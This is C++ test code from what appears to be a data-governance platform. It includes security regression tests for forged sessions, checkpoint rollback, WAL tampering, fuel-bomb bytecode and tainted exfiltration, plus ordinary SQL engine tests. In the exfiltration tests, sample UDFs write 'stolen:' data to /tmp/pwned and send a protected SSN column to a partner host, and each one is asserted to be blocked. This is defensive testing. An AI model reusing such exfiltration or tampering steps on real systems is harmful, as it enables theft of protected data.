    ASSERT_TRUE(snapshot.ok());
    ASSERT_FALSE(snapshot->prepared.empty());
    snapshot->prepared[0].bound_principal = "alice";
    auto imported = dest->service->ImportSession(
        EncodeSessionSnapshot(*snapshot), "tok-eve");
    ExpectBlocked(imported.status(), StatusCode::kPermissionDenied,
                  /*retryable=*/false, "A18 rebound principal forgery");
  }

  // Forgery 3: replay eve's snapshot under a different (valid) identity.
  // The token authenticates alice, the state belongs to eve — rejected.
  {
    platform_.RegisterToken("tok-alice", "alice");
    auto imported = dest->service->ImportSession(*exported, "tok-alice");
    ExpectBlocked(imported.status(), StatusCode::kPermissionDenied,
                  /*retryable=*/false, "A18 cross-identity replay");
  }
  EXPECT_GE(dest->service->service_stats().import_rejects, 3u);
  EXPECT_EQ(dest->service->ActiveSessionCount(), 0u);
}

// ---- Durable-state attacks (A19–A20) ---------------------------------------------
//
// The attacker here has filesystem access to the durability directory — a
// compromised operator or backup pipeline — and tries to use *restore* as a
// privilege primitive: rolling the catalog back to a broader-privileged
// past, or editing history in place. Both must fail closed with a typed
// kDataLoss (DESIGN.md §14 replay rules), never a quiet recovery.

class DurableAttackTest : public ::testing::Test {
 protected:
  void SetUp() override {
    dir_ = (std::filesystem::temp_directory_path() /
            ("lg-attack-durable-" + std::to_string(::getpid()) + "-" +
             ::testing::UnitTest::GetInstance()->current_test_info()->name()))
               .string();
    std::filesystem::remove_all(dir_);
    std::filesystem::create_directories(dir_);
  }
  void TearDown() override {
    std::error_code ec;
    std::filesystem::remove_all(dir_, ec);
  }

  static std::vector<uint8_t> Bytes(const std::string& s) {
    return std::vector<uint8_t>(s.begin(), s.end());
  }

  std::string FindOne(const std::string& dir, const std::string& ext) {
    for (const auto& entry : std::filesystem::directory_iterator(dir)) {
      if (entry.path().extension() == ext) return entry.path().string();
    }
    return "";
  }

  std::string dir_;
};

TEST_F(DurableAttackTest, A19_StaleCheckpointRollbackRejected) {
  std::string wal_dir = dir_ + "/wal";
  std::string stolen = dir_ + "/stolen.ckpt";
  std::string ckpt_name;
  {
    DurableLogOptions options;
    options.dir = wal_dir;
    options.max_segment_bytes = 64;  // force rotation so GC deletes segments
    DurableLogRecovery recovery;
    auto log = DurableLog::Open(options, &recovery);
    ASSERT_TRUE(log.ok());
    for (uint64_t i = 1; i <= 10; ++i) {
      ASSERT_TRUE((*log)->AppendSync(i, Bytes("broad-privilege-era")).ok());
    }
    // The attacker keeps a copy of the checkpoint from the era when they
    // still held broad grants...
    ASSERT_TRUE((*log)->WriteCheckpoint(10, Bytes("grants-incl-eve")).ok());
    std::string old_ckpt = FindOne(wal_dir, ".ckpt");
    ASSERT_FALSE(old_ckpt.empty());
    std::filesystem::copy(old_ckpt, stolen);
    ckpt_name = std::filesystem::path(old_ckpt).filename().string();
    // ...then the revocation era is published and checkpointed (GC removes
    // the covered segments and the old checkpoint).
    for (uint64_t i = 11; i <= 20; ++i) {
      ASSERT_TRUE((*log)->AppendSync(i, Bytes("revoked-era")).ok());
    }
    ASSERT_TRUE((*log)->WriteCheckpoint(20, Bytes("grants-excl-eve")).ok());
    for (uint64_t i = 21; i <= 25; ++i) {
      ASSERT_TRUE((*log)->AppendSync(i, Bytes("tail")).ok());
    }
  }
  // The attack: swap the stale checkpoint back in over the newer one. The
  // surviving tail segments start well past the stale checkpoint's covered
  // LSN, so replay sees a gap — exactly what a rollback looks like.
  std::string current = FindOne(wal_dir, ".ckpt");
  ASSERT_FALSE(current.empty());
  std::filesystem::remove(current);
  std::filesystem::copy(stolen, wal_dir + "/" + ckpt_name);

  DurableLogOptions options;
  options.dir = wal_dir;
  options.max_segment_bytes = 64;
  DurableLogRecovery recovery;
  auto log = DurableLog::Open(options, &recovery);
  ASSERT_FALSE(log.ok()) << "stale-checkpoint rollback was admitted";
  // Typed kDataLoss, never a quiet recovery. (kDataLoss is classified
  // transient by the *wire* retry policy — a corrupted frame in transit is
  // worth resending — but recovery never runs under RetryCall: the platform
  // poisons the catalog and every later authorization repeats this error.)
  EXPECT_EQ(log.status().code(), StatusCode::kDataLoss)
      << "A19 stale checkpoint rollback: " << log.status();
}

TEST_F(DurableAttackTest, A20_TamperedWalRecordFailsClosed) {
  std::string wal_dir = dir_ + "/wal";
  {
    DurableLogOptions options;
    options.dir = wal_dir;
    DurableLogRecovery recovery;
    auto log = DurableLog::Open(options, &recovery);
    ASSERT_TRUE(log.ok());
    ASSERT_TRUE((*log)->AppendSync(1, Bytes("GRANT SELECT TO alice")).ok());
    ASSERT_TRUE((*log)->AppendSync(2, Bytes("REVOKE SELECT FROM eve")).ok());
    ASSERT_TRUE((*log)->AppendSync(3, Bytes("unrelated publish")).ok());
  }
  // The attacker edits record 2 in place (REVOKE … eve → something
  // harmless), hoping replay takes the bytes at face value. The frame CRC
  // covers lsn ‖ stamp ‖ payload, and because valid records follow, this
  // cannot be mistaken for an unacked torn tail: hard kDataLoss.
  //
  // NOTE: tampering with the FINAL record is physically indistinguishable
  // from a torn unacked tail and is truncated instead — which is still
  // fail-closed: truncation can only ever remove unacknowledged state,
  // never fabricate it (an acked record's Sync returned before the copy).
  std::string segment = FindOne(wal_dir, ".seg");
  ASSERT_FALSE(segment.empty());
  {
    std::fstream file(segment,
                      std::ios::binary | std::ios::in | std::ios::out);
    // Record 1 frame = 24-byte header + 21-byte payload = 45 bytes; byte
    // 24+45+24+8 lands inside record 2's payload.
    const std::streamoff offset = 45 + 24 + 8;
    char byte = 0;
    file.seekg(offset);
    file.read(&byte, 1);
    byte = static_cast<char>(byte ^ 0x20);
    file.seekp(offset);
    file.write(&byte, 1);
  }
  DurableLogOptions options;
  options.dir = wal_dir;
  DurableLogRecovery recovery;
  auto log = DurableLog::Open(options, &recovery);
  ASSERT_FALSE(log.ok()) << "tampered WAL record was replayed";
  EXPECT_EQ(log.status().code(), StatusCode::kDataLoss)
      << "A20 tampered WAL record: " << log.status();
}

// ---- Admission attacks against the bytecode verifier (A21–A22) --------------

/// Dispatcher wired to its own certificate cache so the verifier counters
/// observed here belong to this test alone.
class VerifierAttackTest : public SandboxAttackTest {
 protected:
  VerifierAttackTest()
      : provisioner_(&env_, &clock_), dispatcher_(&provisioner_, &clock_) {
    dispatcher_.set_verifier_cache(&cache_);
  }

  LocalSandboxProvisioner provisioner_;
  Dispatcher dispatcher_;
  VerifiedProgramCache cache_;
};

TEST_F(VerifierAttackTest, A21_FuelBombAndMalformedBytecodeDieAtAdmission) {
  // (a) Self-looping fuel bomb: no reachable path returns, so the program
  // can only ever burn the domain's fuel. The certificate proves divergence
  // and admission refuses it outright — no sandbox is provisioned to find
  // out the hard way.
  UdfInvocation spin = Invocation(canned::InfiniteLoopUdf());
  spin.result_type = TypeKind::kInt64;
  auto bomb = dispatcher_.Dispatch("sess-eve", "eve",
                                   SandboxPolicy::LockedDown(), OneRowBatch(),
                                   {spin});
  ExpectBlocked(bomb.status(), StatusCode::kInvalidArgument,
                /*retryable=*/false, "A21 fuel bomb");

  // (b) Out-of-bounds jump, hand-assembled to bypass the builder: the
  // classic "trap the interpreter mid-flight" probe dies statically.
  UdfBytecode oob;
  oob.name = "oob";
  oob.return_type = TypeKind::kInt64;
  oob.code.push_back({OpCode::kJump, 99, 0});
  oob.code.push_back({OpCode::kReturn, 0, 0});
  auto trap = dispatcher_.Dispatch("sess-eve", "eve",
                                   SandboxPolicy::LockedDown(), OneRowBatch(),
                                   {Invocation(std::move(oob))});
  ExpectBlocked(trap.status(), StatusCode::kInvalidArgument,
                /*retryable=*/false, "A21 OOB jump");

  // Both rejections happened before provisioning: zero cold starts, zero
  // live sandboxes, and the dispatcher accounted for both refusals.
  EXPECT_EQ(dispatcher_.stats().cold_starts, 0u);
  EXPECT_EQ(dispatcher_.ActiveSandboxCount(), 0u);
  EXPECT_EQ(dispatcher_.stats().verifier_rejections, 2u);
  EXPECT_EQ(dispatcher_.stats().verifier_admissions, 0u);
}

TEST_F(VerifierAttackTest, A22_TaintedSinkFlowRejectedBeforeProvisioning) {
  // write_file("/tmp/pwned", "stolen:" + arg0) where arg0 is bound to a
  // policy-protected column. The owner's policy legitimately grants file
  // writes, so capability checking alone would admit this program — the
  // per-argument taint flow is what kills it.
  UdfBuilder b("exfil", 1, TypeKind::kBool);
  b.PushConst(Value::String("/tmp/pwned"));
  b.PushConst(Value::String("stolen:"));
  b.LoadArg(0).Concat();
  b.CallHost(HostFn::kWriteFile, 2);
  b.Ret();
  auto exfil = b.Build();
  ASSERT_TRUE(exfil.ok()) << exfil.status();

  SandboxPolicy writer = SandboxPolicy::LockedDown();
  writer.allow_file_write = true;

  UdfInvocation inv = Invocation(*exfil);
  inv.result_type = TypeKind::kBool;
  inv.arg_indices = {0};
  inv.tainted_args = UdfCertificate::ArgTaintBit(0);
  auto leak = dispatcher_.Dispatch("sess-eve", "eve", writer, OneRowBatch(),
                                   {inv});
  ExpectBlocked(leak.status(), StatusCode::kPermissionDenied,
                /*retryable=*/false, "A22 taint exfiltration");
  EXPECT_EQ(dispatcher_.stats().cold_starts, 0u);
  EXPECT_EQ(dispatcher_.stats().verifier_rejections, 1u);
  EXPECT_FALSE(env_.FileExists("/tmp/pwned"));

  // Control 1: the identical program over an unprotected argument is
  // admitted — the write is then a policy-granted capability, not a leak.
  UdfInvocation clean = inv;
  clean.tainted_args = 0;
  auto granted = dispatcher_.Dispatch("sess-eve", "eve", writer,
                                      OneRowBatch(), {clean});
  EXPECT_TRUE(granted.ok()) << granted.status();

  // Control 2: declassification — hashing the protected value before the
  // write launders the taint, so fingerprint-style reporting stays legal.
  UdfBuilder h("digest", 1, TypeKind::kBool);
  h.PushConst(Value::String("/tmp/digest"));
  h.LoadArg(0).Sha256Op();
  h.CallHost(HostFn::kWriteFile, 2);
  h.Ret();
  auto digest = h.Build();
  ASSERT_TRUE(digest.ok()) << digest.status();
  UdfInvocation hashed = Invocation(*digest);
  hashed.result_type = TypeKind::kBool;
  hashed.arg_indices = {0};
  hashed.tainted_args = UdfCertificate::ArgTaintBit(0);
  auto declassified = dispatcher_.Dispatch("sess-eve", "eve", writer,
                                           OneRowBatch(), {hashed});
  EXPECT_TRUE(declassified.ok()) << declassified.status();
}

TEST_F(AttackTest, A22b_TaintedExfiltrationOverMaskedColumnDiesPV008) {
  // End-to-end SQL leg: an owner-sanctioned egress UDF (its allow-list
  // legitimately reaches a partner API) applied to a MASKED column. The
  // capability is granted; the taint flow ssn -> http_get is not. PV008
  // rejects the plan before any sandbox dispatch.
  FunctionInfo fn;
  fn.full_name = "main.s.report";
  fn.num_args = 1;
  fn.return_type = TypeKind::kString;
  fn.body = canned::NetworkExfiltrationUdf("http://api.partner.example/q");
  fn.allowed_egress = {"api.partner.example"};
  ASSERT_TRUE(platform_.catalog().CreateFunction("admin", fn).ok());
  Must("GRANT SELECT ON main.s.customers TO eve");
  ASSERT_TRUE(platform_.catalog()
                  .Grant("admin", "main.s.report", Privilege::kExecute, "eve")
                  .ok());

  auto eve = platform_.Connect(cluster_, "tok-eve");
  ASSERT_TRUE(eve.ok()) << eve.status();
  auto rows =
      eve->Sql("SELECT main.s.report(ssn) AS r FROM main.s.customers");
  ExpectBlocked(rows.status(), StatusCode::kFailedPrecondition,
                /*retryable=*/false, "A22 PV008 taint");
  EXPECT_NE(rows.status().message().find(PlanVerifier::kUdfUnverified),
            std::string::npos)
      << rows.status();

  // Control: the same UDF over the UNMASKED column of the same table flows
  // no protected data into the sink and runs fine — the admission gate
  // rejects the flow, not the function.
  cluster_->cluster->driver_host().env().RegisterHttpHandler(
      "http://api.partner.example/",
      [](const std::string&) { return "ack"; });
  auto legal =
      eve->Sql("SELECT main.s.report(name) AS r FROM main.s.customers");
  EXPECT_TRUE(legal.ok()) << legal.status();
}

}  // namespace
}  // namespace lakeguard
