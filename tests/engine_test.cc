// Tests for src/engine: analyzer (resolution, SecureView injection, view
// expansion, UDF resolution), optimizer (fusion, barriers, folding) and
// executor (operators, sandboxed UDF data path), plus SQL end-to-end on a
// single engine.

#include <gtest/gtest.h>

#include "core/platform.h"
#include "engine/analyzer.h"
#include "engine/optimizer.h"
#include "sql/parser.h"
#include "udf/builder.h"

namespace lakeguard {
namespace {

class EngineTest : public ::testing::Test {
 protected:
  EngineTest() {
    EXPECT_TRUE(platform_.AddUser("admin").ok());
    EXPECT_TRUE(platform_.AddUser("alice").ok());
    EXPECT_TRUE(platform_.AddUser("bob").ok());
    EXPECT_TRUE(platform_.AddGroup("sales_global").ok());
    EXPECT_TRUE(platform_.AddUserToGroup("bob", "sales_global").ok());
    platform_.AddMetastoreAdmin("admin");
    EXPECT_TRUE(platform_.catalog().CreateCatalog("admin", "main").ok());
    EXPECT_TRUE(platform_.catalog().CreateSchema("admin", "main.s").ok());

    cluster_ = platform_.CreateStandardCluster();
    admin_ctx_ = *platform_.DirectContext(cluster_, "admin");

    MustSql(
        "CREATE TABLE main.s.orders ("
        "  region STRING, amount BIGINT, seller STRING)");
    MustSql(
        "INSERT INTO main.s.orders VALUES "
        "('US', 10, 'ann'), ('US', 20, 'joe'), ('EU', 5, 'zoe'), "
        "('EU', 40, 'max'), ('APAC', 100, 'kim')");
    for (const char* u : {"alice", "bob"}) {
      MustSql(std::string("GRANT USE CATALOG ON main TO ") + u);
      MustSql(std::string("GRANT USE SCHEMA ON main.s TO ") + u);
      MustSql(std::string("GRANT SELECT ON main.s.orders TO ") + u);
    }
  }

  Table MustSql(const std::string& sql) {
    auto result = cluster_->engine->ExecuteSql(sql, admin_ctx_);
    EXPECT_TRUE(result.ok()) << sql << " -> " << result.status();
    return result.ok() ? *result : Table();
  }

  Result<Table> SqlAs(const std::string& user, const std::string& sql) {
    auto ctx = platform_.DirectContext(cluster_, user);
    EXPECT_TRUE(ctx.ok());
    return cluster_->engine->ExecuteSql(sql, *ctx);
  }

  void RegisterSumUdf(const std::string& name, const std::string& owner) {
    FunctionInfo fn;
    fn.full_name = name;
    fn.num_args = 2;
    fn.return_type = TypeKind::kInt64;
    fn.body = canned::SumUdf();
    ASSERT_TRUE(platform_.catalog().CreateFunction("admin", fn).ok());
    // Trust domain is the creating user; override for tests that need
    // distinct owners by creating through a different path is overkill —
    // owner is recorded as creator ("admin"); emulate other owners by
    // granting and renaming only.
    (void)owner;
  }

  LakeguardPlatform platform_;
  ClusterHandle* cluster_ = nullptr;
  ExecutionContext admin_ctx_;
};

// ---- Analyzer -----------------------------------------------------------------------

TEST_F(EngineTest, AnalyzeResolvesColumnsAndSchema) {
  auto stmt = ParseSql("SELECT amount + 1 AS a1 FROM main.s.orders");
  ASSERT_TRUE(stmt.ok());
  auto analysis = cluster_->engine->AnalyzePlan(
      std::get<SelectStatement>(*stmt).plan, admin_ctx_);
  ASSERT_TRUE(analysis.ok()) << analysis.status();
  EXPECT_EQ(analysis->output_schema.ToString(), "(a1 BIGINT)");
  EXPECT_EQ(CountPlanNodes(analysis->plan, PlanKind::kTableRef), 0u);
  EXPECT_EQ(CountPlanNodes(analysis->plan, PlanKind::kResolvedScan), 1u);
  EXPECT_EQ(analysis->read_tokens.count("main.s.orders"), 1u);
}

TEST_F(EngineTest, AnalyzeUnknownColumnFails) {
  auto stmt = ParseSql("SELECT nope FROM main.s.orders");
  ASSERT_TRUE(stmt.ok());
  auto analysis = cluster_->engine->AnalyzePlan(
      std::get<SelectStatement>(*stmt).plan, admin_ctx_);
  EXPECT_TRUE(analysis.status().IsInvalidArgument());
}

TEST_F(EngineTest, RowFilterInjectedUnderSecureView) {
  MustSql("ALTER TABLE main.s.orders SET ROW FILTER (region = 'US')");
  auto stmt = ParseSql("SELECT amount FROM main.s.orders");
  auto alice_ctx = *platform_.DirectContext(cluster_, "alice");
  auto analysis = cluster_->engine->AnalyzePlan(
      std::get<SelectStatement>(*stmt).plan, alice_ctx);
  ASSERT_TRUE(analysis.ok());
  EXPECT_EQ(CountPlanNodes(analysis->plan, PlanKind::kSecureView), 1u);
  EXPECT_EQ(CountPlanNodes(analysis->plan, PlanKind::kFilter), 1u);
}

TEST_F(EngineTest, ViewExpandsWithDefinersRights) {
  MustSql("CREATE VIEW main.s.us_orders AS "
          "SELECT amount, seller FROM main.s.orders WHERE region = 'US'");
  MustSql("GRANT SELECT ON main.s.us_orders TO alice");
  // Revoke alice's direct table access: the view must still work.
  MustSql("REVOKE SELECT ON main.s.orders FROM alice");
  auto rows = SqlAs("alice", "SELECT amount FROM main.s.us_orders");
  ASSERT_TRUE(rows.ok()) << rows.status();
  EXPECT_EQ(rows->num_rows(), 2u);
  // But the table itself stays closed.
  EXPECT_TRUE(SqlAs("alice", "SELECT amount FROM main.s.orders")
                  .status()
                  .IsPermissionDenied());
}

TEST_F(EngineTest, DynamicViewBindsCurrentUserToInvoker) {
  MustSql("CREATE VIEW main.s.mine AS "
          "SELECT seller, amount FROM main.s.orders "
          "WHERE seller = CURRENT_USER()");
  MustSql("INSERT INTO main.s.orders VALUES ('US', 77, 'alice')");
  MustSql("GRANT SELECT ON main.s.mine TO alice");
  auto rows = SqlAs("alice", "SELECT amount FROM main.s.mine");
  ASSERT_TRUE(rows.ok());
  ASSERT_EQ(rows->num_rows(), 1u);  // only alice's own row, not admin's
}

TEST_F(EngineTest, ViewCycleDetected) {
  // a -> b -> a
  ViewInfo a;
  a.full_name = "main.s.va";
  a.sql_text = "SELECT * FROM main.s.vb";
  ViewInfo b;
  b.full_name = "main.s.vb";
  b.sql_text = "SELECT * FROM main.s.va";
  ASSERT_TRUE(platform_.catalog().CreateView("admin", a).ok());
  ASSERT_TRUE(platform_.catalog().CreateView("admin", b).ok());
  auto rows = SqlAs("admin", "SELECT * FROM main.s.va");
  EXPECT_FALSE(rows.ok());
}

TEST_F(EngineTest, NestedUdfArgumentsRejected) {
  RegisterSumUdf("main.s.add2", "admin");
  auto rows = SqlAs("admin",
                    "SELECT main.s.add2(main.s.add2(amount, 1), 2) AS v "
                    "FROM main.s.orders");
  EXPECT_EQ(rows.status().code(), StatusCode::kUnimplemented);
}

// ---- Optimizer -----------------------------------------------------------------------

TEST_F(EngineTest, ProjectsCollapse) {
  Optimizer optimizer;
  Schema schema({{"a", TypeKind::kInt64, true}});
  PlanPtr scan = MakeResolvedScan("t", "mem://t", schema);
  PlanPtr inner = MakeProject(
      scan, {BinOp(BinaryOpKind::kAdd, ColIdx("a", 0), LitInt(1))}, {"b"});
  PlanPtr outer = MakeProject(
      inner, {BinOp(BinaryOpKind::kMul, ColIdx("b", 0), LitInt(2))}, {"c"});
  auto optimized = optimizer.Optimize(outer);
  ASSERT_TRUE(optimized.ok());
  EXPECT_EQ(CountPlanNodes(*optimized, PlanKind::kProject), 1u);
  const auto& project = static_cast<const ProjectNode&>(**optimized);
  EXPECT_EQ(project.exprs()[0]->ToString(), "((a#0 + 1) * 2)");
}

TEST_F(EngineTest, CollapseNeverDuplicatesUdf) {
  Optimizer optimizer;
  Schema schema({{"a", TypeKind::kInt64, true}});
  PlanPtr scan = MakeResolvedScan("t", "mem://t", schema);
  ExprPtr udf = Udf("f", "owner", TypeKind::kInt64, {ColIdx("a", 0)});
  PlanPtr inner = MakeProject(scan, {udf}, {"u"});
  // Outer references the UDF result twice.
  PlanPtr outer = MakeProject(
      inner, {BinOp(BinaryOpKind::kAdd, ColIdx("u", 0), ColIdx("u", 0))},
      {"double_u"});
  auto optimized = optimizer.Optimize(outer);
  ASSERT_TRUE(optimized.ok());
  EXPECT_EQ(CountPlanNodes(*optimized, PlanKind::kProject), 2u);  // no merge
}

TEST_F(EngineTest, CollapseRespectsTrustDomains) {
  Optimizer optimizer;
  Schema schema({{"a", TypeKind::kInt64, true}});
  PlanPtr scan = MakeResolvedScan("t", "mem://t", schema);
  PlanPtr inner = MakeProject(
      scan, {Udf("f", "owner-A", TypeKind::kInt64, {ColIdx("a", 0)})}, {"u"});
  PlanPtr outer = MakeProject(
      inner, {Udf("g", "owner-B", TypeKind::kInt64, {ColIdx("u", 0)})},
      {"v"});
  auto optimized = optimizer.Optimize(outer);
  ASSERT_TRUE(optimized.ok());
  EXPECT_EQ(CountPlanNodes(*optimized, PlanKind::kProject), 2u);
}

TEST_F(EngineTest, FusionToggleDisablesCollapse) {
  OptimizerOptions options;
  options.enable_fusion = false;
  Optimizer optimizer(options);
  Schema schema({{"a", TypeKind::kInt64, true}});
  PlanPtr scan = MakeResolvedScan("t", "mem://t", schema);
  PlanPtr inner = MakeProject(scan, {ColIdx("a", 0)}, {"a"});
  PlanPtr outer = MakeProject(inner, {ColIdx("a", 0)}, {"a"});
  auto optimized = optimizer.Optimize(outer);
  EXPECT_EQ(CountPlanNodes(*optimized, PlanKind::kProject), 2u);
}

TEST_F(EngineTest, FilterNeverPushesBelowSecureView) {
  Optimizer optimizer;
  Schema schema({{"a", TypeKind::kInt64, true}});
  PlanPtr scan = MakeResolvedScan("t", "mem://t", schema);
  PlanPtr guarded = MakeSecureView(
      MakeFilter(scan, BinOp(BinaryOpKind::kGt, ColIdx("a", 0), LitInt(0))),
      "t");
  PlanPtr user_filter = MakeFilter(
      guarded, BinOp(BinaryOpKind::kLt, ColIdx("a", 0), LitInt(10)));
  auto optimized = optimizer.Optimize(user_filter);
  ASSERT_TRUE(optimized.ok());
  // The user filter must still sit ABOVE the SecureView.
  EXPECT_EQ((*optimized)->kind(), PlanKind::kFilter);
  EXPECT_EQ((*optimized)->children()[0]->kind(), PlanKind::kSecureView);
}

TEST_F(EngineTest, FiltersMergeAndPushThroughProject) {
  Optimizer optimizer;
  Schema schema({{"a", TypeKind::kInt64, true}});
  PlanPtr scan = MakeResolvedScan("t", "mem://t", schema);
  PlanPtr project = MakeProject(scan, {ColIdx("a", 0)}, {"a"});
  PlanPtr f1 = MakeFilter(project,
                          BinOp(BinaryOpKind::kGt, ColIdx("a", 0), LitInt(0)));
  PlanPtr f2 =
      MakeFilter(f1, BinOp(BinaryOpKind::kLt, ColIdx("a", 0), LitInt(9)));
  auto optimized = optimizer.Optimize(f2);
  ASSERT_TRUE(optimized.ok());
  // Both filters merged and pushed below the project.
  ASSERT_EQ((*optimized)->kind(), PlanKind::kProject);
  EXPECT_EQ((*optimized)->children()[0]->kind(), PlanKind::kFilter);
}

TEST_F(EngineTest, ConstantFolding) {
  Optimizer optimizer;
  Schema schema({{"a", TypeKind::kInt64, true}});
  PlanPtr scan = MakeResolvedScan("t", "mem://t", schema);
  PlanPtr project = MakeProject(
      scan, {BinOp(BinaryOpKind::kMul, LitInt(6), LitInt(7))}, {"c"});
  auto optimized = optimizer.Optimize(project);
  ASSERT_TRUE(optimized.ok());
  const auto& p = static_cast<const ProjectNode&>(**optimized);
  EXPECT_EQ(p.exprs()[0]->ToString(), "42");
}

TEST_F(EngineTest, CurrentUserIsNotFolded) {
  Optimizer optimizer;
  Schema schema({{"a", TypeKind::kInt64, true}});
  PlanPtr scan = MakeResolvedScan("t", "mem://t", schema);
  PlanPtr project = MakeProject(scan, {Func("CURRENT_USER", {})}, {"u"});
  auto optimized = optimizer.Optimize(project);
  const auto& p = static_cast<const ProjectNode&>(**optimized);
  EXPECT_EQ(p.exprs()[0]->kind(), ExprKind::kFunctionCall);
}

// ---- Executor / SQL end-to-end ----------------------------------------------------------

TEST_F(EngineTest, FilterProjectSortLimit) {
  Table t = MustSql(
      "SELECT seller, amount * 2 AS dbl FROM main.s.orders "
      "WHERE region = 'US' OR region = 'EU' ORDER BY dbl DESC LIMIT 2");
  ASSERT_EQ(t.num_rows(), 2u);
  auto batch = *t.Combine();
  EXPECT_EQ(batch.CellAt(0, 0).string_value(), "max");
  EXPECT_EQ(batch.CellAt(0, 1).int_value(), 80);
  EXPECT_EQ(batch.CellAt(1, 1).int_value(), 40);
}

TEST_F(EngineTest, GroupByAggregates) {
  Table t = MustSql(
      "SELECT region, SUM(amount) AS total, COUNT(*) AS n, AVG(amount) AS m, "
      "MIN(amount) AS lo, MAX(amount) AS hi "
      "FROM main.s.orders GROUP BY region ORDER BY region");
  ASSERT_EQ(t.num_rows(), 3u);
  auto batch = *t.Combine();
  // APAC, EU, US
  EXPECT_EQ(batch.CellAt(0, 1).int_value(), 100);
  EXPECT_EQ(batch.CellAt(1, 1).int_value(), 45);
  EXPECT_EQ(batch.CellAt(1, 2).int_value(), 2);
  EXPECT_DOUBLE_EQ(batch.CellAt(2, 3).double_value(), 15.0);
  EXPECT_EQ(batch.CellAt(2, 4).int_value(), 10);
  EXPECT_EQ(batch.CellAt(2, 5).int_value(), 20);
}

TEST_F(EngineTest, GlobalAggregateOnEmptyInput) {
  Table t = MustSql(
      "SELECT COUNT(*) AS n, SUM(amount) AS s FROM main.s.orders "
      "WHERE region = 'MARS'");
  ASSERT_EQ(t.num_rows(), 1u);
  auto batch = *t.Combine();
  EXPECT_EQ(batch.CellAt(0, 0).int_value(), 0);
  EXPECT_TRUE(batch.CellAt(0, 1).is_null());
}

TEST_F(EngineTest, HavingFiltersGroups) {
  Table t = MustSql(
      "SELECT region, SUM(amount) AS total FROM main.s.orders "
      "GROUP BY region HAVING SUM(amount) > 50 ORDER BY region");
  EXPECT_EQ(t.num_rows(), 1u);  // only APAC (100)
}

TEST_F(EngineTest, InnerAndLeftJoins) {
  MustSql("CREATE TABLE main.s.regions (region STRING, name STRING)");
  MustSql("INSERT INTO main.s.regions VALUES "
          "('US', 'United States'), ('EU', 'Europe')");
  Table inner = MustSql(
      "SELECT o.seller, r.name FROM main.s.orders o "
      "JOIN main.s.regions r ON o.region = r.region ORDER BY o.seller");
  EXPECT_EQ(inner.num_rows(), 4u);  // APAC row drops
  Table left = MustSql(
      "SELECT o.seller, r.name FROM main.s.orders o "
      "LEFT JOIN main.s.regions r ON o.region = r.region ORDER BY o.seller");
  EXPECT_EQ(left.num_rows(), 5u);
  auto batch = *left.Combine();
  bool saw_null = false;
  for (size_t i = 0; i < batch.num_rows(); ++i) {
    if (batch.CellAt(i, 1).is_null()) saw_null = true;
  }
  EXPECT_TRUE(saw_null);  // APAC keeps NULL name
}

TEST_F(EngineTest, CrossJoinCardinality) {
  MustSql("CREATE TABLE main.s.two (x BIGINT)");
  MustSql("INSERT INTO main.s.two VALUES (1), (2)");
  Table t = MustSql(
      "SELECT amount, x FROM main.s.orders CROSS JOIN main.s.two");
  EXPECT_EQ(t.num_rows(), 10u);
}

TEST_F(EngineTest, InsertThenQuerySeesNewVersion) {
  Table before = MustSql("SELECT COUNT(*) AS n FROM main.s.orders");
  MustSql("INSERT INTO main.s.orders VALUES ('US', 1, 'new')");
  Table after = MustSql("SELECT COUNT(*) AS n FROM main.s.orders");
  EXPECT_EQ(before.Combine()->CellAt(0, 0).int_value() + 1,
            after.Combine()->CellAt(0, 0).int_value());
}

TEST_F(EngineTest, SandboxedUdfProducesCorrectColumn) {
  RegisterSumUdf("main.s.adder", "admin");
  MustSql("GRANT EXECUTE ON main.s.adder TO alice");
  auto rows = SqlAs("alice",
                    "SELECT main.s.adder(amount, 100) AS v "
                    "FROM main.s.orders WHERE region = 'US' ORDER BY v");
  ASSERT_TRUE(rows.ok()) << rows.status();
  auto batch = *rows->Combine();
  ASSERT_EQ(batch.num_rows(), 2u);
  EXPECT_EQ(batch.CellAt(0, 0).int_value(), 110);
  EXPECT_EQ(batch.CellAt(1, 0).int_value(), 120);
  // It really went through a sandbox.
  EXPECT_GE(cluster_->cluster->driver_host().dispatcher().ActiveSandboxCount(),
            1u);
}

TEST_F(EngineTest, UdfWithoutExecuteGrantDenied) {
  RegisterSumUdf("main.s.private_fn", "admin");
  auto rows = SqlAs("alice",
                    "SELECT main.s.private_fn(amount, 1) AS v "
                    "FROM main.s.orders");
  EXPECT_TRUE(rows.status().IsPermissionDenied());
}

TEST_F(EngineTest, UdfInWhereClause) {
  RegisterSumUdf("main.s.add_w", "admin");
  Table t = MustSql(
      "SELECT seller FROM main.s.orders "
      "WHERE main.s.add_w(amount, 0) > 30 ORDER BY seller");
  EXPECT_EQ(t.num_rows(), 2u);  // 40 and 100
}

TEST_F(EngineTest, MasksComposeWithUserExpressions) {
  MustSql("ALTER TABLE main.s.orders ALTER COLUMN seller SET MASK "
          "(REDACT(seller))");
  auto rows = SqlAs("alice",
                    "SELECT UPPER(seller) AS s FROM main.s.orders LIMIT 1");
  ASSERT_TRUE(rows.ok());
  EXPECT_EQ(rows->Combine()->CellAt(0, 0).string_value(), "[REDACTED]");
}

TEST_F(EngineTest, MaterializedViewRefreshAndRead) {
  MustSql("CREATE MATERIALIZED VIEW main.s.by_region AS "
          "SELECT region, SUM(amount) AS total FROM main.s.orders "
          "GROUP BY region");
  MustSql("GRANT SELECT ON main.s.by_region TO alice");
  auto rows = SqlAs("alice",
                    "SELECT total FROM main.s.by_region ORDER BY total");
  ASSERT_TRUE(rows.ok()) << rows.status();
  EXPECT_EQ(rows->num_rows(), 3u);

  // MV is a snapshot: new inserts are invisible until refresh.
  MustSql("INSERT INTO main.s.orders VALUES ('MARS', 1000, 'zorg')");
  auto stale = SqlAs("alice", "SELECT COUNT(*) AS n FROM main.s.by_region");
  EXPECT_EQ(stale->Combine()->CellAt(0, 0).int_value(), 3);
  MustSql("REFRESH MATERIALIZED VIEW main.s.by_region");
  auto fresh = SqlAs("alice", "SELECT COUNT(*) AS n FROM main.s.by_region");
  EXPECT_EQ(fresh->Combine()->CellAt(0, 0).int_value(), 4);
}

TEST_F(EngineTest, DistinctDeduplicates) {
  Table t = MustSql("SELECT DISTINCT region FROM main.s.orders");
  EXPECT_EQ(t.num_rows(), 3u);  // US, EU, APAC
  Table pairs = MustSql(
      "SELECT DISTINCT region, amount FROM main.s.orders WHERE amount < 50");
  EXPECT_EQ(pairs.num_rows(), 4u);
  EXPECT_FALSE(
      cluster_->engine
          ->ExecuteSql("SELECT DISTINCT region FROM main.s.orders "
                       "GROUP BY region",
                       admin_ctx_)
          .ok());
}

